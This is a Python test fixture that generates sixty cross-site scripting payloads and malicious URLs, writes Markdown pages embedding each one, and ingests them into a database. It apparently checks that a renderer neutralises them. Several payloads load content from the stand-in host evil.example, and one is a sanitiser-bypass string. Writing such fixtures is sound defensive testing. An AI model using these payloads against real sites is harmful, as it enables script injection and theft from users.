"""Sixty strings that run a script, load something or leave the page where they are taken as HTML,
and pages that carry each of them wherever a page can carry words.
"""

from pathlib import Path
from typing import Any

import psycopg
import yaml
from psycopg.types.json import Jsonb

#: What a script of an attack does: it leaves a mark, which `page_faults` looks for.
RUN = "window.__pwned=1"
#: Each page of `indexed` has this word.
WORD = "wickedness"
#: Addresses of pages that run if they are followed.
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f" \x01javascript:{RUN}//https://docs.example/",
    "data:text/html,<script>opener.__pwned=1</script>",
    f"vbscript:{RUN}",
    f'https://docs.example/"onmouseover="{RUN}',
    "//evil.example/page",
]

ATTACKS = [
    # Elements that run.
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    # Attributes that run.
    f"<img src=x onerror={RUN}>",
    f"<img src=x oNeRrOr='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f'<img """><b onmouseover={RUN}>over</b>">',
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>text</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>text</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>text</div>",
    f"<p contenteditable onfocus={RUN} tabindex=0 autofocus>text</p>",
    f'" onfocus={RUN} autofocus x="',
    f"' onmouseover='{RUN}' x='",
    f"` onclick=`{RUN}",
    # Addresses that run.
    f"<a href=javascript:{RUN}>link</a>",
    f"<a href='JaVaScRiPt:{RUN}'>link</a>",
    f"<a href='java&#10;script:{RUN}'>link</a>",
    f"<a href='&#106;avascript:{RUN}'>link</a>",
    f"<a href='\x01javascript:{RUN}'>link</a>",
    f"[link](javascript:{RUN})",
    f"[link](<java\tscript:{RUN}>)",
    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"![image](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[link]: javascript:{RUN}\n[link]",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<object data=data:text/html,<script>parent.__pwned=1</script>></object>",
    "<embed src=//evil.example/x.svg>",
    f"<form action=javascript:{RUN}><button>send</button></form>",
    f"<button formaction=javascript:{RUN}>send</button>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>link</text></a></svg>",
    # What loads, leaves or redraws the page without a script.
    "<img src=//evil.example/pixel.png>",
    "![image](https://evil.example/pixel.png)",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    # What passes by a sanitiser that reads otherwise than a browser does.
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    f" onerror={RUN}&gt;'>",
]  # fmt: skip


def _page(number: int, attack: str) -> str:
    """The attack in front matter, in a heading, in text, in cells, in code and as HTML."""
    line = " ".join(attack.split())
    matter = {
        "title": f"{number}: {attack}",
        "path": ["Attacks", attack],
        "tags": [f"tag {attack}"],
        "type": f"type {line}",
        "author": attack,
        "link": f"https://docs.example/{line}",
    }
    return f"""\
---
{yaml.safe_dump(matter, allow_unicode=True)}---

# Attack {number}: {line}

The {WORD} of number {number} in text: {attack}

| cell | {WORD} |
|---|---|
| {line.replace("|", "")} | `{line}` |

## {line}

{attack}

```html
{attack}
```

See [{line}](attack-{(number + 1) % len(ATTACKS):02}.md "{line}") and ![{line}](picture.png).
"""


def write(folder: Path) -> None:
    """Write a page for each attack."""
    for number, attack in enumerate(ATTACKS):
        (folder / f"attack-{number:02}.md").write_text(_page(number, attack), encoding="utf-8")


def ingest_addresses(connection: psycopg.Connection[Any]) -> None:
    """Ingest a page of each attack as its key and its address, past the reading of files."""
    pages = [
        {
            "key": f"{number}/{' '.join(attack.split())}.md",
            "url": ADDRESSES[number % len(ADDRESSES)],
            "title": attack,
            "body": f"# {attack}\n\nThe {WORD} of addresses, number {number}.\n",
        }
        for number, attack in enumerate(ATTACKS)
    ]
    connection.execute(
        "select pgrag.ingest_pages(library => 'addresses', pages => %s)", [Jsonb(pages)]
    )
    connection.execute("select pgrag.embed_pending(library => 'addresses')")
